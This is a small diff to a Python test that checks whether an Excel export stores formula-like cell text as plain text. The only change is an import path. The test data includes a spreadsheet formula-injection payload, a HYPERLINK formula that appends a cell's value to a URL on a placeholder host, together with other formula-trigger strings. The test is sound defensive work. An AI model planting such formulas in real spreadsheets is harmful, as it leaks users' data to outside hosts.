@@ -41,7 +41,7 @@ def test_page_downloads_store_formula_like_text_as_text():
 
     import pandas as pd
 
-    from campaign.ui import excel_bytes
+    from campaign.app.ui import excel_bytes
 
     data = excel_bytes(pd.DataFrame({"问题描述": ['=HYPERLINK("http://example.invalid/?x="&A1,"点此查看详情")',
                                               "+1", "-2", "@SUM(A1)"]}))
